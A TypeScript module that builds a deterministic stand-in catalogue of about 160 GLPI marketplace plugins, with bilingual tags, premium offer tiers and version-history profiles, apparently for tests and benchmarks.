/**
 * The marketplace catalogue of the stand-in: ~160 plugins modelled on the real GLPI marketplace
 * (real keys and names, descriptions written for the stand-in), and a generator of catalogues of
 * any size for benchmarks. Everything is deterministic: each plugin's details come from a PRNG
 * seeded by its key, so adding a plugin to the table never changes the others.
 */
import { mulberry32 } from '../../shared/seeded-random';
import type { ArchiveFormat, StandinDescription, StandinPlugin, StandinVersion } from './catalog-types';

// --- deterministic randomness ---

/** FNV-1a, 32 bits. */
export function hashSeed(text: string, seed = 0): number {
  let h = (0x811c9dc5 ^ seed) >>> 0;
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i);
    h = Math.imul(h, 0x01000193) >>> 0;
  }
  return h;
}

export { mulberry32 };

class Rand {
  readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    const item = items[Math.floor(this.next() * items.length)];
    if (item === undefined) throw new Error('pick from an empty list');
    return item;
  }
}

// --- tags ---

export interface TagDefinition {
  /** The English slug; what StandinPlugin.tags holds. */
  id: string;
  en: string;
  fr: string;
  feature: { en: string; fr: string };
}

export const TAG_VOCABULARY: readonly TagDefinition[] = [
  tag(
    'Inventory',
    'Inventaire',
    'Keeps the inventory accurate without manual typing',
    'Maintient un inventaire exact sans saisie manuelle',
  ),
  tag(
    'Helpdesk',
    'Assistance',
    'Helps technicians handle requests faster',
    'Aide les techniciens à traiter les demandes plus vite',
  ),
  tag(
    'Reports',
    'Rapports',
    'Adds reports you can filter, sort and export',
    'Ajoute des rapports filtrables, triables et exportables',
  ),
  tag('Forms', 'Formulaires', 'Builds forms without writing code', 'Crée des formulaires sans écrire de code'),
  tag(
    'Asset management',
    'Gestion de parc',
    'Follows each asset through its whole life cycle',
    'Suit chaque matériel tout au long de son cycle de vie',
  ),
  tag(
    'Dashboard',
    'Tableau de bord',
    'Shows key figures in configurable widgets',
    'Affiche les chiffres clés dans des widgets configurables',
  ),
  tag(
    'Notifications',
    'Notifications',
    'Sends notifications on the events you choose',
    'Envoie des notifications sur les événements de votre choix',
  ),
  tag(
    'Authentication',
    'Authentification',
    'Works with your existing identity provider',
    "Fonctionne avec votre fournisseur d'identité existant",
  ),
  tag(
    'Security',
    'Sécurité',
    'Restricts access with GLPI profiles and rights',
    "Restreint l'accès grâce aux profils et droits de GLPI",
  ),
  tag(
    'Export',
    'Export',
    'Exports data to CSV, PDF or spreadsheet files',
    'Exporte les données en CSV, PDF ou tableur',
  ),
  tag(
    'Import',
    'Import',
    'Imports data on a schedule with automatic actions',
    'Importe les données périodiquement via les actions automatiques',
  ),
  tag(
    'Network',
    'Réseau',
    'Understands network equipment, ports and VLANs',
    'Gère les équipements réseau, les ports et les VLAN',
  ),
  tag(
    'Project management',
    'Gestion de projet',
    'Links projects, tasks and tickets together',
    'Relie projets, tâches et tickets',
  ),
  tag(
    'Ticket',
    'Ticket',
    'Adds information and actions to tickets',
    'Ajoute des informations et des actions aux tickets',
  ),
  tag(
    'Workflow',
    'Flux de travail',
    'Automates repetitive steps with rules',
    'Automatise les étapes répétitives grâce aux règles',
  ),
  tag('Mail', 'Courriel', 'Improves mail collection and replies', 'Améliore la collecte des courriels et les réponses'),
  tag('Finance', 'Finance', 'Tracks costs, budgets and contracts', 'Suit les coûts, budgets et contrats'),
  tag('Planning', 'Planification', 'Displays everything in the GLPI planning', 'Affiche tout dans le planning de GLPI'),
  tag(
    'CMDB',
    'CMDB',
    'Maps relations and impacts between configuration items',
    'Cartographie les relations et impacts entre éléments de configuration',
  ),
  tag(
    'Integration',
    'Intégration',
    'Connects GLPI to third-party tools through their APIs',
    'Connecte GLPI à des outils tiers via leurs API',
  ),
  tag(
    'Administration',
    'Administration',
    'Gives administrators fine-grained settings per entity',
    'Offre aux administrateurs des réglages fins par entité',
  ),
  tag(
    'User interface',
    'Interface utilisateur',
    'Makes the interface clearer for end users',
    "Rend l'interface plus claire pour les utilisateurs",
  ),
  tag(
    'Printers',
    'Imprimantes',
    'Handles printers, cartridges and page counters',
    'Gère les imprimantes, cartouches et compteurs de pages',
  ),
  tag(
    'Knowledge base',
    'Base de connaissances',
    'Shares answers in the knowledge base',
    'Partage les réponses dans la base de connaissances',
  ),
  tag(
    'Compliance',
    'Conformité',
    'Helps you meet legal and audit requirements',
    "Aide à respecter les exigences légales et d'audit",
  ),
  tag(
    'Datacenter',
    'Centre de données',
    'Places servers in racks, rooms and datacenters',
    'Place les serveurs dans les baies, salles et centres de données',
  ),
];

function tag(en: string, fr: string, featureEn: string, featureFr: string): TagDefinition {
  return { id: tagSlug(en), en, fr, feature: { en: featureEn, fr: featureFr } };
}

/**
 * Upstream's tag key (`Tool::getUrlSlug`): ASCII lower-case, then every character other than a-z
 * becomes `-` (so `Sécurité` → `s-curit-`, `Réseau` → `r-seau`).
 */
export function tagSlug(label: string): string {
  return [...label.replace(/[A-Z]/g, (c) => c.toLowerCase())].map((c) => (/^[a-z]$/.test(c) ? c : '-')).join('');
}

const TAGS_BY_ID = new Map(TAG_VOCABULARY.map((t) => [t.id, t]));

export function tagDefinition(id: string): TagDefinition | undefined {
  return TAGS_BY_ID.get(id);
}

// --- premium plugins of the demo catalogue ---

/** The offer lists GLPI Network would send (membership lists, docs/glpi-network-api.md §4.2), lowest tier first. */
export const OFFER_LISTS = {
  registered: ['registered', 'basic', 'standard', 'advanced'],
  basic: ['basic', 'standard', 'advanced'],
  standard: ['standard', 'advanced'],
  advanced: ['advanced'],
} as const;

export type PremiumTier = keyof typeof OFFER_LISTS;

/** The key of the plugin whose long descriptions carry script/HTML injection attempts. */
export const HOSTILE_PLUGIN_KEY = 'hostiledemo';

// --- the table ---

type Profile = 'current' | 'legacy10' | 'legacy95' | 'new11' | 'exact' | 'multi' | 'twopart';
const PROFILES: readonly Profile[] = ['current', 'legacy10', 'legacy95', 'new11', 'exact', 'multi', 'twopart'];

/**
 * One plugin a line: key | name | GitHub owner/repo | authors (", ") | tags | short en | short fr |
 * options (`profile=…;offers=…;license=…`). Profiles shape the version history (see `versionsFor`).
 */
const TABLE = `
fields | Additional fields | pluginsGLPI/fields | Teclib' | forms,asset-management,administration | Add custom fields on GLPI objects | Ajoutez des champs personnalisés aux objets GLPI | langs=es,de
formcreator | Form Creator | pluginsGLPI/formcreator | Teclib' | forms,helpdesk,workflow | Build custom forms for your users' requests | Créez des formulaires personnalisés pour les demandes des utilisateurs | langs=es,pt_BR
datainjection | Data Injection | pluginsGLPI/datainjection | Teclib' | import,administration | Import data into GLPI from CSV files | Importez des données dans GLPI depuis des fichiers CSV
genericobject | Generic Object | pluginsGLPI/genericobject | Teclib' | asset-management,inventory | Manage new types of inventory objects | Gérez de nouveaux types d'objets d'inventaire | profile=legacy10
glpiinventory | GLPI Inventory | glpi-project/glpi-inventory-plugin | Teclib' | inventory,network,integration | Network discovery, software deployment and collect with the GLPI agent | Découverte réseau, déploiement logiciel et collecte avec l'agent GLPI
behaviors | Behaviours | yllen/behaviors | Remi Collet, Nelly Mahu-Lasson | helpdesk,ticket,workflow | Optional behaviours for GLPI: ticket numbering, mandatory fields and more | Comportements optionnels pour GLPI : numérotation des tickets, champs obligatoires et plus | profile=exact;license=AGPLv3+
pdf | Print to PDF | yllen/pdf | Remi Collet, Nelly Mahu-Lasson | export,reports | Print GLPI objects to PDF | Imprimez les objets GLPI en PDF | profile=exact;license=AGPLv3+
tag | Tag Management | pluginsGLPI/tag | Teclib' | administration,user-interface | Add tags on GLPI objects | Ajoutez des étiquettes sur les objets GLPI
escalade | Escalation | pluginsGLPI/escalade | Teclib' | helpdesk,ticket,workflow | Ticket escalation between groups | Escalade des tickets entre groupes
news | News | pluginsGLPI/news | Teclib' | notifications,user-interface | Display alerts and news on the GLPI home page | Affichez des alertes et actualités sur la page d'accueil de GLPI
reports | Reports | yllen/reports | Remi Collet, Nelly Mahu-Lasson | reports,export | A collection of additional reports | Un ensemble de rapports supplémentaires | profile=twopart;license=AGPLv3+;html=1
order | Order Management | pluginsGLPI/order | Teclib' | finance,asset-management | Manage orders, quotes and deliveries | Gérez les commandes, devis et livraisons
moreticket | More ticket | InfotelGLPI/moreticket | Infotel | helpdesk,ticket | Add waiting and closing details to tickets | Ajoute des informations d'attente et de clôture aux tickets
accounts | Accounts Inventory | InfotelGLPI/accounts | Infotel | security,inventory | Manage accounts and their encrypted passwords | Gérez les comptes et leurs mots de passe chiffrés
addressing | IP Adressing | pluginsGLPI/addressing | Infotel, Gilles Dubois | network,inventory | IP address range reports with ping | Rapports de plages d'adresses IP avec ping
appliances | Appliances | InfotelGLPI/appliances | Infotel | asset-management,cmdb | Manage appliances and their components | Gérez les applicatifs et leurs composants | profile=legacy95
archires | Network Architectures | InfotelGLPI/archires | Infotel | network,cmdb | Draw network architecture diagrams | Dessinez des schémas d'architecture réseau | profile=legacy95
barcode | Barcode | pluginsGLPI/barcode | Teclib' | inventory,printers | Print barcodes and QR codes for assets | Imprimez des codes-barres et QR codes pour le matériel
databaseinventory | Database Inventory | pluginsGLPI/databaseinventory | Teclib' | inventory,integration | Inventory database instances with the GLPI agent | Inventoriez les instances de bases de données avec l'agent GLPI
manufacturersimports | Manufacturers imports | InfotelGLPI/manufacturersimports | Infotel | import,asset-management,finance | Import warranty data from manufacturers | Importez les garanties depuis les sites des constructeurs
mreporting | More Reporting | pluginsGLPI/mreporting | Teclib' | reports,dashboard | Graphical reports and statistics | Rapports graphiques et statistiques
ocsinventoryng | OCS Inventory NG | pluginsGLPI/ocsinventoryng | Gilles Dubois, Remi Collet, Nelly Mahu-Lasson | inventory,import,integration | Synchronize GLPI with OCS Inventory NG | Synchronisez GLPI avec OCS Inventory NG
oauthimap | OAuth IMAP | pluginsGLPI/oauthimap | Teclib' | mail,authentication | OAuth authentication for IMAP mail collectors | Authentification OAuth pour les collecteurs de courriels IMAP
positions | Cartography | InfotelGLPI/positions | Infotel | asset-management,datacenter | Place assets on maps and floor plans | Placez le matériel sur des plans et cartes
printercounters | Printer counters | InfotelGLPI/printercounters | Infotel | printers,inventory,finance | Collect page counters of network printers by SNMP | Relevez les compteurs des imprimantes réseau par SNMP
rgpdtools | RGPD Tools | yild/rgpdtools | Yild | compliance,security | Tools to apply the GDPR to GLPI data | Outils pour appliquer le RGPD aux données de GLPI
satisfaction | More satisfaction | InfotelGLPI/satisfaction | Infotel | helpdesk,reports | Custom satisfaction surveys | Enquêtes de satisfaction personnalisées
tasklists | Tasks list | InfotelGLPI/tasklists | Infotel | project-management,planning | Kanban board of simple tasks | Tableau kanban de tâches simples
timelineticketlist | Timeline of tickets | pluginsGLPI/timelineticket | Teclib' | ticket,reports | Show the time tickets spent in each status and group | Affiche le temps passé par les tickets dans chaque statut et groupe
treeview | Tree view | pluginsGLPI/treeview | Teclib' | user-interface,asset-management | Browse items in a tree by location | Parcourez les éléments en arborescence par lieu | profile=legacy95
uninstall | Item's uninstallation | pluginsGLPI/uninstall | Teclib' | asset-management,administration | Uninstall and replace assets with models | Désinstallez et remplacez le matériel selon des modèles
webapplications | Web applications | InfotelGLPI/webapplications | Infotel | cmdb,asset-management | Inventory web applications | Inventoriez les applications web
whitelabel | White Label | pluginsGLPI/whitelabel | Teclib' | user-interface,administration | Brand GLPI with your own colours and logo | Personnalisez GLPI avec vos couleurs et votre logo | offers=advanced
advancedforms | Advanced forms | pluginsGLPI/advancedforms | Teclib' | forms,helpdesk | Advanced question types for GLPI 11 forms | Types de questions avancés pour les formulaires de GLPI 11 | profile=new11;offers=basic
cmdb | CMDB | InfotelGLPI/cmdb | Infotel | cmdb,asset-management,dashboard | Configuration items, impacts and criticality | Éléments de configuration, impacts et criticité | offers=basic
credit | Credit vouchers | pluginsGLPI/credit | Teclib' | finance,helpdesk | Manage credit vouchers consumed by tickets | Gérez des bons d'intervention consommés par les tickets
deploy | Deploy | pluginsGLPI/deploy | Teclib' | inventory,integration | Deploy software packages with the GLPI agent | Déployez des paquets logiciels avec l'agent GLPI | offers=basic
gantt | Gantt | pluginsGLPI/gantt | Teclib' | project-management,planning | Gantt charts for GLPI projects | Diagrammes de Gantt pour les projets GLPI
geninventorynumber | Inventory number generation | pluginsGLPI/geninventorynumber | Teclib' | inventory,asset-management | Generate inventory numbers automatically | Générez automatiquement les numéros d'inventaire
hours | Business hours | probesys/glpi-hours | Probesys | planning,helpdesk | Count the time tickets spend within business hours | Compte le temps passé par les tickets pendant les heures ouvrées
impersonate | Impersonate | pluginsGLPI/impersonate | Teclib' | administration,authentication | Log in as another user to reproduce a problem | Connectez-vous en tant qu'un autre utilisateur pour reproduire un problème | profile=legacy95
jamf | Jamf | cconard96/jamf | Curtis Conard | inventory,integration | Import Apple devices from Jamf Pro | Importez les appareils Apple depuis Jamf Pro | offers=basic
ldapcomputers | LDAP computers | probesys/ldapcomputers | Probesys | inventory,import,authentication | Import computers from an LDAP directory | Importez les ordinateurs depuis un annuaire LDAP
mailanalyzer | Mail Analyzer | tomolimo/mailanalyzer | Olivier Moron | mail,helpdesk | Attach replies to the right ticket using mail threads | Rattache les réponses au bon ticket grâce aux fils de courriels
metabase | Metabase | pluginsGLPI/metabase | Teclib' | reports,dashboard,integration | Connect GLPI to Metabase dashboards | Connectez GLPI aux tableaux de bord Metabase | offers=standard
mydashboard | My Dashboard | InfotelGLPI/mydashboard | Infotel | dashboard,reports | Widgets and dashboards for every profile | Widgets et tableaux de bord pour chaque profil
processmaker | ProcessMaker | tomolimo/processmaker | Olivier Moron | workflow,integration | Run ProcessMaker workflows from tickets | Exécutez des workflows ProcessMaker depuis les tickets
projectbridge | Project Bridge | probesys/projectbridge | Probesys | project-management,finance | Link tickets to contract hours through projects | Reliez les tickets aux heures de contrat via les projets
racks | Rack enclosures | InfotelGLPI/racks | Infotel | datacenter,asset-management | Manage bays and racks (now part of GLPI) | Gérez les baies et racks (désormais dans GLPI) | profile=legacy95
resources | Human resources | InfotelGLPI/resources | Infotel | administration,workflow | Manage arrivals and departures of employees | Gérez les arrivées et départs du personnel
room | Rooms | pluginsGLPI/room | Teclib' | planning,asset-management | Book meeting rooms | Réservez des salles de réunion | profile=twopart
routetickets | Route tickets | probesys/routetickets | Probesys | helpdesk,workflow | Route new tickets to the right group from keywords | Aiguille les nouveaux tickets vers le bon groupe selon des mots-clés
scim | SCIM | pluginsGLPI/scim | Teclib' | authentication,integration | Provision users and groups through SCIM 2.0 | Provisionnez utilisateurs et groupes avec SCIM 2.0 | offers=standard;profile=new11
singlesignon | Single Sign-On | edgardmessias/glpi-singlesignon | Edgard Messias | authentication,security | OAuth2 and OpenID Connect login (Azure, Google, GitHub…) | Connexion OAuth2 et OpenID Connect (Azure, Google, GitHub…) | profile=multi
telegrambot | Telegram Bot | pluginsGLPI/telegrambot | Teclib' | notifications,integration | Send notifications through Telegram | Envoyez les notifications via Telegram
useditemsexport | Used items export | pluginsGLPI/useditemsexport | Teclib' | export,asset-management | Export the items a user holds as a PDF receipt | Exportez les éléments d'un utilisateur dans un bon PDF
vip | VIP | InfotelGLPI/vip | Infotel | helpdesk,ticket | Flag tickets of VIP users | Signalez les tickets des utilisateurs VIP
worktime | Work time | probesys/worktime | Probesys | planning,reports | Track technicians' work time per day | Suivez le temps de travail des techniciens par jour
actualtime | Actual time | ticgal/actualtime | TICgal | ticket,planning,reports | Measure the real time spent on tasks | Mesurez le temps réel passé sur les tâches
gappessentials | GAPP Essentials | ticgal/gappessentials | TICgal | integration,helpdesk | What the GAPP mobile app needs on the server | Ce dont l'application mobile GAPP a besoin côté serveur | profile=exact
roundrobin | Round Robin | initiativa/roundrobin | Initiativa | helpdesk,ticket,workflow | Assign tickets to technicians in turn | Attribue les tickets aux techniciens à tour de rôle
phpsaml | PHP SAML | derricksmith/phpsaml | Derrick Smith | authentication,security | SAML single sign-on | Authentification unique SAML | profile=legacy10
carbon | Carbon | pluginsGLPI/carbon | Teclib' | reports,compliance,dashboard | Estimate the carbon footprint of your IT assets | Estimez l'empreinte carbone de votre parc informatique | profile=new11
badges | Badges | InfotelGLPI/badges | Infotel | asset-management,security | Manage access badges | Gérez les badges d'accès
databases | Databases | InfotelGLPI/databases | Infotel | cmdb,inventory | Inventory databases and their instances | Inventoriez les bases de données et leurs instances
domains | Domains | InfotelGLPI/domains | Infotel | network,finance | Track domain names and their renewals | Suivez les noms de domaine et leurs renouvellements | profile=legacy95
financialreports | Financial reports | InfotelGLPI/financialreports | Infotel | finance,reports | Financial reports of your assets | Rapports financiers de votre parc
shellcommands | Shell commands | InfotelGLPI/shellcommands | Infotel | network,administration | Run ping, traceroute and other commands from asset pages | Lancez ping, traceroute et autres commandes depuis les fiches
webresources | Web resources | cconard96/glpi-webresources-plugin | Curtis Conard | user-interface,knowledge-base | A page of useful web links per entity | Une page de liens web utiles par entité | profile=multi
etl | ETL | probesys/plugin-etl | Probesys | import,integration | Extract, transform and load data into GLPI | Extraire, transformer et charger des données dans GLPI
fusioninventory | FusionInventory | fusioninventory/fusioninventory-for-glpi | FusionInventory team | inventory,network | Inventory, network discovery and deployment (use GLPI Inventory on GLPI 10) | Inventaire, découverte réseau et déploiement (utilisez GLPI Inventory sous GLPI 10) | profile=legacy95;license=AGPLv3+
openvas | OpenVAS | pluginsGLPI/openvas | Teclib' | security,network | Import OpenVAS vulnerability scans | Importez les analyses de vulnérabilités OpenVAS | profile=legacy95
airwatch | AirWatch | pluginsGLPI/airwatch | Teclib' | inventory,integration | Import mobile devices from VMware AirWatch | Importez les appareils mobiles depuis VMware AirWatch | profile=legacy95
formvalidation | Form Validation | tomolimo/formvalidation | Olivier Moron | forms,helpdesk | Validate form fields with your own rules | Validez les champs des formulaires avec vos propres règles
consumables | Consumables requests | InfotelGLPI/consumables | Infotel | helpdesk,inventory | Let users request consumables | Permettez aux utilisateurs de demander des consommables
seasonality | Seasonality | InfotelGLPI/seasonality | Infotel | helpdesk,planning | Seasonal urgency for ticket categories | Urgence saisonnière des catégories de tickets
itilcategorygroups | ITIL category groups | InfotelGLPI/itilcategorygroups | Infotel | helpdesk,ticket | Restrict assignment groups by category | Restreignez les groupes d'attribution par catégorie
servicecatalog | Service catalog | InfotelGLPI/servicecatalog | Infotel | helpdesk,user-interface | A service catalogue home page for users | Une page d'accueil en catalogue de services pour les utilisateurs
releases | Releases | InfotelGLPI/releases | Infotel | project-management,workflow | Plan software releases and their deployment steps | Planifiez les mises en production et leurs étapes
typology | Typology | InfotelGLPI/typology | Infotel | asset-management,compliance | Check assets against reference typologies | Vérifiez le matériel par rapport à des typologies de référence
environment | Environment | InfotelGLPI/environment | Infotel | user-interface,cmdb | Group the environment plugins in one menu | Regroupez les plugins d'environnement dans un seul menu | profile=legacy95
manageentities | Entities management | InfotelGLPI/manageentities | Infotel | finance,helpdesk | Manage customer contracts and interventions | Gérez les contrats clients et les interventions
activity | Activities | InfotelGLPI/activity | Infotel | planning,reports | Declare activities and holidays | Déclarez les activités et les congés
certificates | Certificates | InfotelGLPI/certificates | Infotel | security,asset-management | Track SSL certificates and their expiry | Suivez les certificats SSL et leur expiration
eventsmanager | Events manager | InfotelGLPI/eventsmanager | Infotel | notifications,ticket | Collect events and turn them into tickets | Collectez des événements et transformez-les en tickets
sccm | SCCM connector | pluginsGLPI/sccm | Teclib' | inventory,integration,import | Import computers from Microsoft SCCM | Importez les ordinateurs depuis Microsoft SCCM
nebackup | Network equipment backup | pluginsGLPI/nebackup | Teclib' | network,administration | Back up network equipment configurations | Sauvegardez la configuration des équipements réseau | profile=legacy10
dlteams | DLTeams | dlteams/dlteams | DLPlace | compliance,security | Records of processing activities for the GDPR | Registre des traitements pour le RGPD
costs | Costs | ticgal/costs | TICgal | finance,ticket | Fixed and time-based costs on tickets | Coûts fixes et horaires sur les tickets
tam | Technician Availability Manager | ticgal/tam | TICgal | planning,helpdesk | Know which technicians are available right now | Sachez quels techniciens sont disponibles maintenant
example | Example | pluginsGLPI/example | Teclib' | integration | A plugin skeleton for developers | Un squelette de plugin pour les développeurs | profile=twopart
empty | Empty | pluginsGLPI/empty | Teclib' | integration | The official template for new plugins | Le modèle officiel pour les nouveaux plugins
mantis | MantisBT | pluginsGLPI/mantis | Teclib' | integration,ticket | Link GLPI tickets to MantisBT issues | Reliez les tickets GLPI aux anomalies MantisBT
purgelogs | Purge history | pluginsGLPI/purgelogs | Teclib' | administration,compliance | Purge old history entries | Purgez les anciennes entrées d'historique
moreldap | More LDAP | pluginsGLPI/moreldap | Teclib' | authentication,import | Import more LDAP attributes into GLPI | Importez davantage d'attributs LDAP dans GLPI
connections | Connections | pluginsGLPI/connections | Teclib' | network,finance | Manage WAN connections and their operators | Gérez les liaisons WAN et leurs opérateurs | profile=legacy95;html=1
simcard | Sim card | pluginsGLPI/simcard | Teclib' | asset-management,network | Manage SIM cards and phone lines | Gérez les cartes SIM et les lignes téléphoniques | profile=legacy95
monitoring | Monitoring | pluginsGLPI/monitoring | Teclib' | network,dashboard | Monitor hosts and services with Shinken | Supervisez hôtes et services avec Shinken | profile=legacy95
ticketcleaner | Ticket Cleaner | tomolimo/ticketcleaner | Olivier Moron | mail,ticket | Remove signatures and mail noise from tickets | Retire les signatures et le bruit des courriels dans les tickets
arsurveys | ArSurveys | tomolimo/arsurveys | Olivier Moron | helpdesk,reports | Ask why when a satisfaction survey is bad | Demandez pourquoi quand une enquête de satisfaction est mauvaise
gdprropa | GDPR Records of Processing Activities | yild/gdprropa | Yild | compliance | Keep the GDPR records of processing activities in GLPI | Tenez le registre des traitements RGPD dans GLPI
surveyticket | Survey ticket | pluginsGLPI/surveyticket | Teclib' | forms,ticket | Ask questions when a ticket is created | Posez des questions à la création d'un ticket | profile=legacy95
glpitomdt | GLPI to MDT | fusioninventory/glpi2mdt | FusionInventory team | integration,inventory | Drive Microsoft Deployment Toolkit from GLPI | Pilotez Microsoft Deployment Toolkit depuis GLPI | profile=legacy95
reservation | Reservation | salleman33/reservation | Sébastien Alleman | planning,asset-management | Advanced reservation management | Gestion avancée des réservations
ocsinventoryngplus | OCS Inventory NG extra fields | pluginsGLPI/ocsinventoryngplus | Teclib' | inventory,import | Extra OCS fields for the OCS Inventory NG plugin | Champs OCS supplémentaires pour le plugin OCS Inventory NG | profile=legacy10
fpsoftware | Software by entity | FPSoftware/fpsoftware | FP | inventory,compliance | Software and licences by entity | Logiciels et licences par entité
iframe | Iframe | pluginsGLPI/iframe | Teclib' | user-interface,dashboard | Embed external pages in GLPI | Intégrez des pages externes dans GLPI | profile=legacy95
cartography | Cartography of services | pluginsGLPI/cartography | Teclib' | cmdb,network | Draw the map of your services | Dessinez la carte de vos services
formcreatorfields | Form Creator tags | pluginsGLPI/formcreatorfields | Teclib' | forms | Use additional fields in Form Creator | Utilisez les champs supplémentaires dans Form Creator | profile=legacy10
mobile | Mobile | pluginsGLPI/mobile | Teclib' | user-interface | A mobile view of GLPI | Une vue mobile de GLPI | profile=legacy95
autoexportsearches | Auto export searches | InfotelGLPI/autoexportsearches | Infotel | export,reports | Export saved searches on a schedule | Exportez les recherches enregistrées périodiquement
ticketalerts | Ticket alerts | InfotelGLPI/ticketalerts | Infotel | notifications,ticket | Alerts on tickets left without answer | Alertes sur les tickets restés sans réponse
webhookpro | Webhook Pro | pluginsGLPI/webhookpro | Teclib' | notifications,integration,workflow | Signed webhooks with retries and payload templates | Webhooks signés avec réessais et modèles de contenu | offers=standard
datacenterpro | Datacenter Pro | pluginsGLPI/datacenterpro | Teclib' | datacenter,asset-management,dashboard | Power, cooling and capacity planning for datacenters | Énergie, refroidissement et capacité des centres de données | offers=advanced
auditlog | Audit Log | pluginsGLPI/auditlog | Teclib' | security,compliance,administration | Tamper-evident audit trail of every change | Journal d'audit infalsifiable de chaque modification | offers=advanced;profile=new11
teamsnotify | Teams notifications | pluginsGLPI/teamsnotify | Teclib' | notifications,integration | Post GLPI notifications to Microsoft Teams channels | Publiez les notifications GLPI dans des canaux Microsoft Teams | offers=registered
kioskmode | Kiosk mode | nordicit/kioskmode | Nordic IT | user-interface,helpdesk | A simplified self-service screen for shared terminals | Un écran libre-service simplifié pour les postes partagés
assetaudit | Asset audit | nordicit/assetaudit | Nordic IT | inventory,compliance | Yearly physical audits of assets with a phone | Audits physiques annuels du matériel avec un téléphone
warrantytracker | Warranty tracker | bluefin-it/warrantytracker | Bluefin IT | asset-management,notifications | Alerts before warranties expire | Alertes avant la fin des garanties
contractalerts | Contract alerts | bluefin-it/contractalerts | Bluefin IT | finance,notifications | Renewal reminders for contracts and subscriptions | Rappels de renouvellement des contrats et abonnements
licensecompliance | Licence compliance | bluefin-it/licensecompliance | Bluefin IT | compliance,inventory | Compare installed software with purchased licences | Comparez les logiciels installés aux licences achetées
kbquality | Knowledge base quality | helpwise/kbquality | Helpwise | knowledge-base,reports | Find outdated and unread knowledge base articles | Trouvez les articles de la base de connaissances obsolètes ou jamais lus
slamonitor | SLA monitor | helpwise/slamonitor | Helpwise | helpdesk,dashboard | Live view of tickets close to their SLA | Vue en direct des tickets proches de leur SLA
onboarding | Onboarding | helpwise/onboarding | Helpwise | workflow,administration | Checklists for new employees' equipment and accounts | Listes de contrôle pour le matériel et les comptes des nouveaux arrivants
visitorlog | Visitor log | nordicit/visitorlog | Nordic IT | security,planning | Register visitors and print their badges | Enregistrez les visiteurs et imprimez leurs badges
keymanagement | Key management | nordicit/keymanagement | Nordic IT | security,asset-management | Track physical keys and who holds them | Suivez les clés physiques et leurs détenteurs
vehiclefleet | Vehicle fleet | bluefin-it/vehiclefleet | Bluefin IT | asset-management,finance | Manage company vehicles, mileage and services | Gérez les véhicules de société, kilométrage et entretiens
phonebook | Phone book | nordicit/phonebook | Nordic IT | user-interface,knowledge-base | A searchable directory of users and phones | Un annuaire consultable des utilisateurs et téléphones
networkmap | Network map | netsmith/networkmap | Netsmith | network,cmdb | Draw the network from inventoried ports | Dessinez le réseau à partir des ports inventoriés
vlanmanager | VLAN manager | netsmith/vlanmanager | Netsmith | network,administration | Plan and document VLANs per site | Planifiez et documentez les VLAN par site
backupreports | Backup reports | netsmith/backupreports | Netsmith | reports,datacenter | Import backup job results and flag failures | Importez les résultats des sauvegardes et signalez les échecs
cveimport | CVE import | secops-lab/cveimport | SecOps Lab | security,import | Match inventoried software against known CVEs | Rapprochez les logiciels inventoriés des CVE connues
patchreport | Patch report | secops-lab/patchreport | SecOps Lab | security,reports | Report missing operating system updates | Signalez les mises à jour système manquantes
changecalendar | Change calendar | helpwise/changecalendar | Helpwise | planning,workflow | A calendar of planned changes and freezes | Un calendrier des changements prévus et des gels
approvalmatrix | Approval matrix | helpwise/approvalmatrix | Helpwise | workflow,helpdesk | Approval chains by category, amount and entity | Circuits de validation par catégorie, montant et entité
budgettracker | Budget tracker | bluefin-it/budgettracker | Bluefin IT | finance,dashboard | Follow IT budgets against real spending | Suivez les budgets informatiques face aux dépenses réelles
invoiceimport | Invoice import | bluefin-it/invoiceimport | Bluefin IT | finance,import | Import supplier invoices from PDF or CSV | Importez les factures fournisseurs depuis PDF ou CSV
supplierportal | Supplier portal | bluefin-it/supplierportal | Bluefin IT | finance,user-interface | Let suppliers follow their orders and tickets | Permettez aux fournisseurs de suivre leurs commandes et tickets
chatbot | Chatbot | helpwise/chatbot | Helpwise | helpdesk,knowledge-base | Answer common questions before a ticket is opened | Répondez aux questions courantes avant l'ouverture d'un ticket | profile=new11
slacknotify | Slack notifications | netsmith/slacknotify | Netsmith | notifications,integration | Post ticket events to Slack channels | Publiez les événements des tickets dans Slack
mattermost | Mattermost | netsmith/mattermost | Netsmith | notifications,integration | Post ticket events to Mattermost | Publiez les événements des tickets dans Mattermost
smsgateway | SMS gateway | nordicit/smsgateway | Nordic IT | notifications,mail | Send urgent notifications by SMS | Envoyez les notifications urgentes par SMS
qrinventory | QR inventory | nordicit/qrinventory | Nordic IT | inventory,printers | Label assets with QR codes and scan them | Étiquetez le matériel avec des QR codes et scannez-les
rfidscan | RFID scan | nordicit/rfidscan | Nordic IT | inventory,integration | Inventory with RFID readers | Inventaire avec des lecteurs RFID
darkmode | Dark mode | uxcraft/darkmode | UX Craft | user-interface | A dark theme for GLPI 9.5 | Un thème sombre pour GLPI 9.5 | profile=legacy95
accessibility | Accessibility | uxcraft/accessibility | UX Craft | user-interface,compliance | Contrast, font size and keyboard helpers | Aides au contraste, à la taille du texte et au clavier
translationkit | Translation kit | uxcraft/translationkit | UX Craft | administration,user-interface | Translate dropdowns and notifications in bulk | Traduisez en masse les listes et les notifications
timesheet | Timesheet | helpwise/timesheet | Helpwise | planning,reports,finance | Weekly timesheets built from tasks | Feuilles de temps hebdomadaires construites depuis les tâches
oncall | On call | helpwise/oncall | Helpwise | planning,notifications | On-call rotations and escalation calls | Astreintes et appels d'escalade
shiftplanner | Shift planner | helpwise/shiftplanner | Helpwise | planning | Plan technicians' shifts | Planifiez les équipes des techniciens | profile=twopart
postmortem | Post-mortem | helpwise/postmortem | Helpwise | helpdesk,knowledge-base | Write post-mortems from major incidents | Rédigez des retours d'expérience sur les incidents majeurs
problemrca | Root cause analysis | helpwise/problemrca | Helpwise | helpdesk,workflow | Five whys and fishbone diagrams on problems | Cinq pourquoi et diagrammes d'Ishikawa sur les problèmes
knowledgeimport | Knowledge import | helpwise/knowledgeimport | Helpwise | knowledge-base,import | Import articles from Confluence or Markdown | Importez des articles depuis Confluence ou Markdown
faqwidget | FAQ widget | uxcraft/faqwidget | UX Craft | knowledge-base,user-interface | Show the FAQ on the self-service home page | Affichez la FAQ sur l'accueil libre-service
csvexportplus | CSV export plus | uxcraft/csvexportplus | UX Craft | export | Exports with your own column order and separators | Exports avec votre ordre de colonnes et vos séparateurs
